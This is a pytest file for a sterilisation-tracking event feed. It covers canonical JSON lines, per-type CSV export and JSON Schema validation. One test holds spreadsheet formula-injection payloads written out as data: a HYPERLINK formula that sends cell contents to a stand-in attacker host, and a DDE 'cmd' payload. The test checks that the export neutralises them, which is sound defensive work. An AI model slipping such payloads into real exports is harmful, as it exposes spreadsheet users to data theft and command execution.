"""The reconciliation feed: canonical lines, CSV per type, JSON Schemas from EVENT_TYPES."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest

import crdt_model as cm
from tests.crdt_model.fold_helpers import (
    Stamper,
    event_json_schemas,
    feed_bytes,
    feed_csv,
    feed_line,
    process,
)
from tests.helpers import submission


def stored(event_type: str, **overrides: Any) -> dict[str, Any]:
    """A stored event of each type, as a node keeps it."""
    s = Stamper()
    body = {**submission(event_type), **overrides}
    body.pop("type")
    if event_type.endswith(".loaded"):
        body.setdefault("load", "A-261128-001")
    return s.make(event_type, "A", **body)


def test_a_feed_line_is_canonical_json() -> None:
    event = {"b": 1, "a": "Stérile", "c": [1.5, {"z": None, "y": True}]}
    line = feed_line(event)
    assert line == '{"a":"Stérile","b":1,"c":[1.5,{"y":true,"z":null}]}\n'.encode()
    assert feed_line(dict(reversed(list(event.items())))) == line
    assert json.loads(line) == event


def test_a_feed_line_is_one_line_to_every_reader() -> None:
    """Unicode's own line ends (NEL, LINE and PARAGRAPH SEPARATOR) are escaped: Python's
    splitlines and older JavaScript break lines there."""
    event = {"text": "ligne 1\u2028ligne 2\u2029fin\x85.", "who": "Hélène"}
    line = feed_line(event)
    assert len(line.decode("utf-8").splitlines()) == 1
    assert b"\\u2028" in line
    assert "Hélène".encode() in line  # other characters stay as they are
    assert json.loads(line) == event


def test_the_feed_is_every_event_in_clock_order_whatever_the_storage_order() -> None:
    s = Stamper()
    process(s, ["S1", "S2"])
    s.make("note", "B", text="Panne du laveur LAV-2,\nretour 14h.")
    decoded = [cm.decode_map(cm.encode(e)) for e in s.events]
    data = feed_bytes(reversed(decoded))
    assert data == feed_bytes(s.events)
    lines = data.split(b"\n")
    assert lines[-1] == b""
    ids = [json.loads(line)["id"] for line in lines[:-1]]
    assert ids == sorted(e["id"] for e in s.events)
    assert b"\\n" in data
    assert data.count(b"\n") == len(s.events)


def test_recorded_text_never_reaches_a_spreadsheet_as_a_formula() -> None:
    s = Stamper()
    link = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
    s.make("note", "B", text=link, station="+cmd|' /C calc'!A0")
    s.make("note", "B", text="RAS: -5 °C", station="@poste")
    s.make("set.dispatched", "B", set="S1", to="-2+3")
    notes = list(csv.DictReader(io.StringIO(feed_csv(s.events, "note"))))
    assert [(n["text"], n["station"]) for n in notes] == [
        ("'" + link, "'+cmd|' /C calc'!A0"),
        ("RAS: -5 °C", "'@poste"),
    ]
    (sent,) = csv.DictReader(io.StringIO(feed_csv(s.events, "set.dispatched")))
    assert sent["to"] == "'-2+3"
    assert json.loads(feed_bytes(s.events).split(b"\n")[0])["text"] == link  # JSON: as recorded


def test_csv_of_one_type_with_a_stable_column_order() -> None:
    s = Stamper()
    process(s, ["S1", "S2"], use=False)
    s.make(
        "steri.cycle",
        "B",
        machine="AUTO-3",
        phases=[{"name": "plateau", "t_min": 134.1}],
        raw="L1\r\nL2",
    )
    text = feed_csv(reversed(s.events), "steri.cycle")
    rows = list(csv.reader(io.StringIO(text)))
    kind = cm.EVENT_TYPES["steri.cycle"]
    assert rows[0] == [*cm.NODE_FIELDS, "zone", "station", *kind.required, *kind.optional]
    assert rows[0][:10] == [
        "id", "hlc", "at", "node", "user", "zone", "station", "machine", "cycle_no", "result"
    ]  # fmt: skip
    assert len(rows) == 3
    assert rows[1][0] < rows[2][0]
    last = dict(zip(rows[0], rows[2], strict=True))
    assert last["phases"] == '[{"name":"plateau","t_min":134.1}]'
    assert last["raw"] == "L1\r\nL2"
    assert last["station"] == ""
    assert text.endswith("\r\n")
    assert feed_csv(s.events, "note") == "id,hlc,at,node,user,zone,station,text,ref\r\n"


def test_every_type_has_a_json_schema() -> None:
    schemas = event_json_schemas()
    assert set(schemas) == set(cm.EVENT_TYPES)
    for name, schema in schemas.items():
        assert schema["title"] == name
        assert schema["additionalProperties"] is False
        assert schema["properties"]["type"] == {"const": name}
        assert set(schema["required"]) >= {"type", *cm.NODE_FIELDS, *cm.EVENT_TYPES[name].required}
    assert schemas["set.used"]["properties"]["patient"]["pattern"] == "^[A-Za-z0-9-]{1,32}$"
    assert schemas["wash.loaded"]["properties"]["sets"]["minItems"] == 1
    json.dumps(schemas)


@pytest.mark.parametrize("event_type", sorted(cm.EVENT_TYPES))
def test_stored_events_satisfy_their_schema(event_type: str) -> None:
    schema = event_json_schemas()[event_type]
    event = json.loads(feed_line(stored(event_type)))
    assert validate(event, schema) == []
    assert validate({**event, "extra": 1}, schema) == ["extra: not allowed"]
    missing = {k: v for k, v in event.items() if k != "hlc"}
    assert validate(missing, schema) == ["hlc: required"]
    assert validate({**event, "zone": "cuisine"}, schema) == ["zone: not one of the values"]


def test_schema_refutes_bad_values() -> None:
    schemas = event_json_schemas()
    event = json.loads(feed_line(stored("set.used")))
    assert validate({**event, "patient": "Dupont Jean"}, schemas["set.used"]) == [
        "patient: pattern"
    ]
    loaded = json.loads(feed_line(stored("wash.loaded")))
    assert validate({**loaded, "sets": []}, schemas["wash.loaded"]) == ["sets: too few items"]
    cycle = json.loads(feed_line(stored("wash.cycle")))
    assert validate({**cycle, "a0": -1}, schemas["wash.cycle"]) == ["a0: below minimum"]


def validate(value: Any, schema: dict[str, Any], path: str = "") -> list[str]:
    """The errors of `value` against the subset of JSON Schema the feed's schemas use."""
    errors: list[str] = []
    where = path or "value"
    if "const" in schema and value != schema["const"]:
        errors.append(f"{where}: not the constant")
    if "enum" in schema and value not in schema["enum"]:
        errors.append(f"{where}: not one of the values")
    kind = schema.get("type")
    if kind is not None and not any(
        _is(value, k) for k in ([kind] if isinstance(kind, str) else kind)
    ):
        return [*errors, f"{where}: not of type {kind}"]
    if isinstance(value, str):
        if len(value) < schema.get("minLength", 0) or len(value) > schema.get("maxLength", 10**9):
            errors.append(f"{where}: length")
        if "pattern" in schema and not re.search(schema["pattern"], value):
            errors.append(f"{where}: pattern")
    if _is(value, "number") and value < schema.get("minimum", float("-inf")):
        errors.append(f"{where}: below minimum")
    if isinstance(value, list):
        if len(value) < schema.get("minItems", 0):
            errors.append(f"{where}: too few items")
        if len(value) > schema.get("maxItems", 10**9):
            errors.append(f"{where}: too many items")
        for i, item in enumerate(value):
            errors.extend(validate(item, schema.get("items", {}), f"{where}[{i}]"))
    if isinstance(value, dict):
        for name in schema.get("required", ()):
            if name not in value:
                errors.append(f"{name}: required")
        properties = schema.get("properties", {})
        extra = schema.get("additionalProperties", True)
        for name, item in value.items():
            if name in properties:
                errors.extend(validate(item, properties[name], name))
            elif extra is False:
                errors.append(f"{name}: not allowed")
            elif isinstance(extra, dict):
                errors.extend(validate(item, extra, name))
    return errors


def _is(value: Any, kind: str) -> bool:
    checks = {
        "string": lambda v: isinstance(v, str),
        "number": lambda v: isinstance(v, int | float) and not isinstance(v, bool),
        "boolean": lambda v: isinstance(v, bool),
        "null": lambda v: v is None,
        "array": lambda v: isinstance(v, list),
        "object": lambda v: isinstance(v, dict),
    }
    return bool(checks[kind](value))
